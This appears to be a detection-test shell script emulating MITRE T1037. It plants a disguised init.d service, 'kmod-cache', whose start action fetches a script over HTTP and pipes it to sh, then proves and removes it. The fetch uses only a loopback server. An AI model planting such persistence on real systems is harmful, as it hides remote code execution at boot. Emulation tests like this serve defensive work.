#!/bin/sh
# T1037 (loud): A script of init.d that systemd takes over
M=/var/tmp/luytre-foothold N=57-init-script
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
x() { mkdir -p "${1%/*}"; cat >"$1"; chmod 755 "$1"; }
serve() { # a page on loopback whose text writes the marker
  setsid python3 - "$1" "$M/$N" <<'END' >/dev/null 2>&1 &
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(f"id > {sys.argv[2]}; chmod 666 {sys.argv[2]}\n".encode())
s = http.server.HTTPServer(("127.0.0.1", int(sys.argv[1])), H); s.timeout = 75; s.handle_request()
END
  sleep 0.4; }
plant() {
  x /etc/init.d/kmod-cache <<'E'
#!/bin/sh
### BEGIN INIT INFO
# Provides:          kmod-cache
# Required-Start:    $remote_fs
# Required-Stop:
# Default-Start:     2 3 4 5
# Default-Stop:
# Short-Description: Cache of modules
### END INIT INFO
case $1 in start) (curl -fsSL http://127.0.0.1:47057/s || wget -qO- http://127.0.0.1:47057/s || python3 -c 'import urllib.request as u;print(u.urlopen("http://127.0.0.1:47057/s").read().decode())') | sh ;; esac
exit 0
E
  ln -sf ../init.d/kmod-cache /etc/rc3.d/S03kmod-cache; systemctl daemon-reload
}
prove() {
  rm -f "$M/$N"
  serve 47057
  systemctl restart kmod-cache.service; seen
}
remove() {
  systemctl stop kmod-cache.service; rm -f /etc/init.d/kmod-cache /etc/rc3.d/S03kmod-cache; systemctl daemon-reload
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
